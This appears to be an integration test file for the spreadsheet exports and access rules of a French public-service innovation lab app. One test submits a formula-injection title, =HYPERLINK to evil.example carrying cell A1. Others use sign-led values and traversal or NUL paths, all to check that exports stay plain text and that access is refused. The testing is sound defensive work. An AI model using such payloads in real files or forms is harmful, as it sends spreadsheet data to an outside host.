import { afterAll, beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { startServer, type TestServer } from "../support/server";
import { Client } from "../support/http";
import { agents, labTeam } from "../../src/demo/content";

/**
 * The exports a lab expects, downloaded through the real server in both formats: a campaign's ideas
 * and the jury's ranking, a Mini-Lab's members and attendance, the decisions (lab team, director).
 * Rows and headers are read back (the XLSX with exceljs), formula-like texts are checked to stay
 * texts, and every export says who may download it and who may not.
 */
let server: TestServer;
const email = (key: string) => labTeam.find((p) => p.key === key)!.email;
const c: Record<string, Client> = {};
const ids: Record<string, string> = {};
const unescape = (html: string) => html.replace(/<!-- -->/g, "").replace(/&#x27;|&#39;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, "&");

async function csv(res: Response): Promise<string[][]> {
  const text = (await res.text()).replace(/^\ufeff/, "");
  // the demo's texts have no line breaks inside cells: one line, one row
  return text
    .trimEnd()
    .split("\r\n")
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^;]*)(?:;|$)/g)].map((m) => m[1].replace(/^"|"$/g, "").replace(/""/g, '"')).slice(0, -1));
}

async function xlsx(res: Response): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
  return wb.worksheets[0];
}
const sheetRows = (ws: ExcelJS.Worksheet) => {
  const out: unknown[][] = [];
  ws.eachRow({ includeEmpty: false }, (row) => out.push((row.values as unknown[]).slice(1)));
  return out;
};

beforeAll(async () => {
  server = await startServer();
  for (const [who, mail] of [
    ["team", email("dimap-1")],
    ["labest", email("labest-1")],
    ["juror", email("juror-1")],
    ["agent", agents[10].email],
    ["author", agents[11].email],
    ["director", email("director-lycees")],
    ["otherDirector", email("director-environnement")],
    ["facilitator1", email("facilitator-1")],
    ["facilitator2", email("facilitator-2")],
  ] as const) {
    c[who] = new Client(server.url);
    await c[who].signInAs(mail);
  }
  const lab = await (await c.team.get("/lab")).text();
  for (const id of new Set([...lab.matchAll(/href="\/lab\/campagnes\/([0-9a-f-]{36})"/g)].map((m) => m[1]))) {
    const html = await (await c.team.get(`/lab/campagnes/${id}`)).text();
    if (/<h1[^>]*>G1ID/.test(html)) ids.contest = id;
    else ids.open = id;
  }
  const minilabs = await (await c.team.get("/lab/region-grand-est/minilabs")).text();
  for (const id of new Set([...minilabs.matchAll(/href="\/minilabs\/([0-9a-f-]{36})"/g)].map((m) => m[1]))) {
    const html = await (await c.team.get(`/minilabs/${id}`)).text();
    if (html.includes("Mini-Lab Restauration scolaire</h1>")) {
      ids.running = id;
      ids.session = new RegExp(`href="/minilabs/${id}/seances/([0-9a-f-]{36})"`).exec(html)![1];
    }
  }
}, 180_000);
afterAll(async () => {
  await server?.stop();
});

describe("a campaign's ideas and the jury's ranking", () => {
  it("the lab team downloads the ranking in both formats: the same rows, in the jury's order, numbers as numbers", async () => {
    const page = unescape(await (await c.team.get(`/lab/campagnes/${ids.contest}`)).text());
    const ranked = Number(/(\d+)\u00a0idées classées/.exec(page)![1]);
    expect(ranked).toBeGreaterThan(200);
    expect(page).toContain(`href="/lab/campagnes/${ids.contest}/export/classement.xlsx"`);
    const asCsv = await c.team.get(`/lab/campagnes/${ids.contest}/export/classement.csv`);
    expect(asCsv.status).toBe(200);
    expect(asCsv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(asCsv.headers.get("content-disposition")).toMatch(/^attachment; filename="classement-g1id-concours-d-idees-internes-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(asCsv.headers.get("cache-control")).toBe("private, no-store");
    const rows = await csv(asCsv);
    expect(rows[0].slice(0, 8)).toEqual(["Rang", "Titre", "Auteur", "Organisation", "Statut", "Moyenne pondérée", "Écart entre jurés", "Jurés ayant noté"]);
    expect(rows[0]).toContain("Utilité pour les agents et les usagers (poids 3)");
    expect(rows).toHaveLength(ranked + 1);
    expect(rows[1][0]).toBe("1");
    expect(rows[1][1]).toBe("Le gâchimètre du self");
    const means = rows.slice(1).map((r) => Number(r[5].replace(",", ".")));
    expect(means).toEqual([...means].sort((a, b) => b - a));

    const asXlsx = await c.team.get(`/lab/campagnes/${ids.contest}/export/classement.xlsx`);
    expect(asXlsx.status).toBe(200);
    expect(asXlsx.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const ws = await xlsx(asXlsx);
    expect(ws.name).toBe("Classement");
    const sheet = sheetRows(ws);
    expect(sheet).toHaveLength(ranked + 1);
    expect(sheet[0]).toEqual(rows[0]);
    expect(sheet.map((r) => r[1])).toEqual(rows.map((r) => r[1]));
    expect(ws.getCell("A2").value).toBe(1);
    expect(typeof ws.getCell("F2").value).toBe("number");
    expect(ws.getCell("F2").value).toBe(means[0]);
  });

  it("streams a campaign's ideas page by page (244 ideas, two pages of 200): each idea once", async () => {
    const ideas = await csv(await c.team.get(`/lab/campagnes/${ids.contest}/export/idees.csv`));
    const ranking = await csv(await c.team.get(`/lab/campagnes/${ids.contest}/export/classement.csv`));
    const links = ideas.slice(1).map((r) => r[16]);
    expect(links.length).toBeGreaterThan(200);
    expect(new Set(links).size).toBe(links.length);
    expect(new Set(links)).toEqual(new Set(ranking.slice(1).map((r) => r[r.length - 1])));
    // in the order they were submitted
    const days = ideas.slice(1).map((r) => r[8].replace(/^(\d{2})\/(\d{2})\/(\d{4}) (.*)$/, "$3-$2-$1 $4"));
    expect(days).toEqual([...days].sort());
  });

  it("exports every idea with its content; a title written like a formula stays a text in both formats", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")';
    const title = `${formula} pour tous`;
    const r = await c.author.post(`/campagnes/${ids.open}/deposer`, {
      title,
      problem: "Le problème est décrit ici avec assez de détails pour passer.",
      proposal: "-1+1 ; @SOMME(A1:A2) : une proposition qui commence par un signe.",
      beneficiaries: "+33 les agents",
      intent: "submit",
    });
    expect(r.status).toBe(302);
    const rows = await csv(await c.team.get(`/lab/campagnes/${ids.open}/export/idees.csv`));
    expect(rows[0]).toEqual([
      "Titre",
      "Statut",
      "Distinction",
      "Citation du jury",
      "Auteur",
      "Co-auteurs",
      "Organisation",
      "Service",
      "Déposée le",
      "Soutiens",
      "Commentaires",
      "Masquée",
      "Motif du masquage",
      "Problème constaté",
      "Proposition",
      "Bénéficiaires",
      "Adresse",
    ]);
    const mine = rows.find((x) => x[0].includes("HYPERLINK"))!;
    expect(mine[0]).toBe(`'${title}`);
    expect(mine[14]).toBe("'-1+1 ; @SOMME(A1:A2) : une proposition qui commence par un signe.");
    expect(mine[15]).toBe("'+33 les agents");
    expect(mine[1]).toBe("Déposée");
    expect(mine[8]).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    expect(mine[16]).toMatch(new RegExp(`^${server.url}/idees/[0-9a-f-]{36}$`));

    const ws = await xlsx(await c.team.get(`/lab/campagnes/${ids.open}/export/idees.xlsx`));
    expect(ws.name).toBe("Idées");
    const sheet = sheetRows(ws);
    expect(sheet).toHaveLength(rows.length);
    const at = sheet.findIndex((x) => String(x[0]).includes("HYPERLINK")) + 1;
    const cell = ws.getRow(at).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(title);
    expect(cell.formula).toBeUndefined();
    for (const col of [15, 16]) expect(ws.getRow(at).getCell(col).type).toBe(ExcelJS.ValueType.String);
    expect(ws.getRow(at).getCell(9).value).toBeInstanceOf(Date);
    // nothing in the sheet is a formula
    ws.eachRow((row) => row.eachCell((x) => expect(x.type, x.address).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it("refuses the campaign's exports to agents, jurors and another lab's team, and knows only its own files", async () => {
    for (const file of ["idees.csv", "idees.xlsx", "classement.csv", "classement.xlsx"]) {
      for (const who of ["agent", "juror", "labest", "director"]) {
        const r = await c[who].get(`/lab/campagnes/${ids.contest}/export/${file}`);
        expect(r.status, `${who} ${file}`).toBe(403);
        expect(r.headers.get("content-disposition"), `${who} ${file}`).toBeNull();
      }
      const anon = await new Client(server.url).get(`/lab/campagnes/${ids.contest}/export/${file}`);
      expect(anon.status).toBe(302);
      expect(anon.headers.get("location")).toMatch(/^\/connexion\?retour=/);
      expect((await c.team.get(`/lab/campagnes/00000000-0000-0000-0000-000000000000/export/${file}`)).status).toBe(404);
      expect((await c.team.get(`/lab/campagnes/pas-un-id/export/${file}`)).status).toBe(404);
    }
    // a NUL character anywhere in an address is refused first, in French, for everyone
    expect((await c.team.get(`/lab/campagnes/${ids.contest}/export/idees.csv%00`)).status).toBe(400);
    for (const file of ["idees.pdf", "secret.csv", "idees.csv.xlsx", "IDEES.CSV", "idees", "%2e%2e%2Fidees.csv", "membres.csv"]) {
      expect((await c.team.get(`/lab/campagnes/${ids.contest}/export/${file}`)).status, file).toBe(404);
      expect([403, 404], file).toContain((await c.agent.get(`/lab/campagnes/${ids.contest}/export/${file}`)).status);
    }
  });
});

describe("a Mini-Lab's members and attendance", () => {
  it("its lab team and facilitators download who came to each session; a member or a stranger may not", async () => {
    const page = unescape(await (await c.team.get(`/minilabs/${ids.running}`)).text());
    expect(page).toContain(`href="/minilabs/${ids.running}/export/membres.csv"`);
    const facilitators = /<h2>Animateurs<\/h2>([\s\S]*?)<h2>/.exec(page)![1];
    const [mine, other] = facilitators.includes("Nadège Thiébault") ? ["facilitator1", "facilitator2"] : ["facilitator2", "facilitator1"];
    // the agent joins, and the team records the session's attendance: the agent present
    expect((await c.agent.post(`/minilabs/${ids.running}`, { intent: "join" })).status).toBe(200);
    const session = unescape(await (await c.team.get(`/minilabs/${ids.running}/seances/${ids.session}`)).text());
    const agentName = `${agents[10].firstName} ${agents[10].lastName}`;
    const agentId = new RegExp(`name="present" value="([0-9a-f-]{36})"[^>]*/><label[^>]*>${agentName}`).exec(session)![1];
    expect((await c.team.post(`/minilabs/${ids.running}/seances/${ids.session}`, { intent: "attendance", present: agentId })).status).toBeLessThan(400);

    for (const who of ["team", mine]) {
      const rows = await csv(await c[who].get(`/minilabs/${ids.running}/export/membres.csv`));
      expect(rows[0].slice(0, 10)).toEqual(["Nom", "Rôle", "Arrivée par", "Organisation", "Service", "Fonction", "Site", "Membre depuis", "Présences", "Séances dont l’appel est fait"]);
      expect(rows[0].length).toBeGreaterThan(10);
      const agentRow = rows.find((r) => r[0] === agentName)!;
      expect(agentRow[1]).toBe("Membre");
      expect(agentRow).toContain("présent");
      expect(Number(agentRow[8])).toBeGreaterThanOrEqual(1);
      expect(rows.some((r) => r[1] === "Animation")).toBe(true);
      expect(rows.filter((r) => r.includes("absent")).length).toBeGreaterThan(0);
    }
    const ws = await xlsx(await c.team.get(`/minilabs/${ids.running}/export/membres.xlsx`));
    expect(ws.name).toBe("Membres et présences");
    const sheet = sheetRows(ws);
    expect(sheet.find((r) => r[0] === agentName)).toContain("présent");

    // a member who does not manage it, another facilitator, another lab's team, a director: 403 (they see the public Mini-Lab)
    for (const who of ["agent", other, "labest", "director"]) {
      for (const file of ["membres.csv", "membres.xlsx"]) expect((await c[who].get(`/minilabs/${ids.running}/export/${file}`)).status, `${who} ${file}`).toBe(403);
    }
    for (const path of ["/minilabs/00000000-0000-0000-0000-000000000000/export/membres.csv", "/minilabs/xyz/export/membres.xlsx", `/minilabs/${ids.running}/export/membres.ods`, `/minilabs/${ids.running}/export/decisions.csv`]) {
      expect((await c.team.get(path)).status, path).toBe(404);
    }
  });

  it("a private Mini-Lab's members: 404 to whoever may not see it, as its page", async () => {
    const r = await c.team.post("/lab/region-grand-est/minilabs/nouveau", {
      name: "Mini-Lab exporté en privé",
      question: "Comment suivre les présences sans rien divulguer à ceux qui ne sont pas membres ?",
      joinPolicy: "open",
      visibility: "private",
      sessionsFrom: "2027-01-10",
      sessionsUntil: "2027-06-30",
      restitutionOn: "2027-09-15",
      arbitrationOn: "2027-11-15",
    });
    expect(r.status).toBe(302);
    const id = /\/minilabs\/([0-9a-f-]{36})/.exec(r.headers.get("location") ?? "")![1];
    for (const who of ["agent", "labest", "director", "facilitator1"]) {
      expect((await c[who].get(`/minilabs/${id}`)).status, who).toBe(404);
      for (const file of ["membres.csv", "membres.xlsx"]) expect((await c[who].get(`/minilabs/${id}/export/${file}`)).status, `${who} ${file}`).toBe(404);
      expect((await c[who].get(`/minilabs/${id}/export/nimporte.quoi`)).status, who).toBe(404);
    }
    const rows = await csv(await c.team.get(`/minilabs/${id}/export/membres.csv`));
    expect(rows).toHaveLength(1);
  });
});

describe("decisions on the Mini-Labs' proposals", () => {
  it("a director downloads the decisions of their directorate, the lab team those of every Mini-Lab of the lab", async () => {
    const arbitrage = unescape(await (await c.director.get("/arbitrage")).text());
    expect(arbitrage).toContain('href="/arbitrage/export/decisions.csv"');
    const decided = [...arbitrage.matchAll(/href="\/propositions\/[0-9a-f-]{36}"[^>]*>([^<]+)<\/a>/g)].map((m) => m[1]);
    expect(decided.length).toBeGreaterThan(0);
    const mine = await csv(await c.director.get("/arbitrage/export/decisions.csv"));
    expect(mine[0]).toEqual(["Mini-Lab", "Proposition", "Direction concernée", "Soumise le", "Coût estimé (€)", "Décision", "Motif", "Décidée le", "Décidée par", "Responsable du suivi", "Échéance du suivi", "Corrections", "Adresse"]);
    expect(mine.slice(1).map((r) => r[1]).sort()).toEqual([...decided].sort());
    expect(new Set(mine.slice(1).map((r) => r[2]))).toEqual(new Set(["Direction des lycées"]));
    const adopted = mine.find((r) => r[5].startsWith("Adoptée"));
    expect(adopted?.[6].length).toBeGreaterThan(4);
    expect(adopted?.[9]).not.toBe("");
    const theirs = await csv(await c.otherDirector.get("/arbitrage/export/decisions.csv"));
    expect(theirs.slice(1).every((r) => r[2] !== "Direction des lycées")).toBe(true);

    const lab = unescape(await (await c.team.get("/lab/region-grand-est/minilabs")).text());
    expect(lab).toContain('href="/lab/region-grand-est/minilabs/export/decisions.xlsx"');
    const all = sheetRows(await xlsx(await c.team.get("/lab/region-grand-est/minilabs/export/decisions.xlsx")));
    expect(all[0]).toEqual(mine[0]);
    const titles = all.slice(1).map((r) => r[1]);
    for (const t of [...mine.slice(1), ...theirs.slice(1)].map((r) => r[1])) expect(titles).toContain(t);
    expect(all.length - 1).toBeGreaterThanOrEqual(mine.length - 1 + theirs.length - 1);
  });

  it("refuses the decisions to whoever may not see them", async () => {
    for (const file of ["decisions.csv", "decisions.xlsx"]) {
      for (const who of ["agent", "team", "labest", "juror", "facilitator1"]) expect((await c[who].get(`/arbitrage/export/${file}`)).status, `${who} ${file}`).toBe(403);
      for (const who of ["agent", "labest", "director", "juror", "facilitator1"]) expect((await c[who].get(`/lab/region-grand-est/minilabs/export/${file}`)).status, `${who} ${file}`).toBe(403);
      expect((await c.team.get(`/lab/inconnu/minilabs/export/${file}`)).status).toBe(404);
    }
    for (const path of ["/arbitrage/export/decisions.pdf", "/arbitrage/export/membres.csv", "/lab/region-grand-est/minilabs/export/idees.csv"]) {
      expect((await c.director.get(path)).status, path).toBe(404);
      expect((await c.team.get(path)).status, path).toBe(404);
    }
  });
});

describe("the lab's projects", () => {
  it("the lab team downloads its portfolio in CSV and XLSX, the same rows; nobody else may", async () => {
    const page = unescape(await (await c.labest.get("/lab/labest/projets")).text());
    expect(page).toContain('href="/lab/labest/projets/export/projets.csv"');
    const rows = await csv(await c.labest.get("/lab/labest/projets/export/projets.csv"));
    expect(rows[0]).toEqual(["Titre", "Étape", "Depuis (jours)", "Fin prévue de l’étape", "Administrations", "Chef ou cheffe de projet", "Équipe du lab", "Budget demandé (€)", "Budget accordé (€)", "Financement", "Passage demandé", "Lien"]);
    const agile = rows.find((r) => r[0] === "Expérimentation d’une direction agile et résiliente")!;
    expect(agile[1]).toBe("Expérimentation");
    expect(agile[4]).toContain("Direction départementale des territoires des Vosges");
    expect(rows.find((r) => r[0] === "Projet de service du secrétariat général commun de la Meuse")?.[9]).toBe("FTAP");
    const sheet = sheetRows(await xlsx(await c.labest.get("/lab/labest/projets/export/projets.xlsx")));
    expect(sheet[0]).toEqual(rows[0]);
    expect(sheet.map((r) => r[0]).sort()).toEqual(rows.map((r) => r[0]).sort());
    expect(typeof sheet.find((r) => r[0] === agile[0])?.[2]).toBe("number");
    for (const who of ["agent", "team", "director"]) for (const file of ["projets.csv", "projets.xlsx"]) expect((await c[who].get(`/lab/labest/projets/export/${file}`)).status, `${who} ${file}`).toBe(403);
    expect((await c.labest.get("/lab/labest/projets/export/projets.pdf")).status).toBe(404);
  });
});

it("logged no server error", () => {
  const errors = server.logs.join("").split("\n").filter((l) => l.includes('"level":"error"') || /^\s+at /.test(l));
  expect(errors).toEqual([]);
});
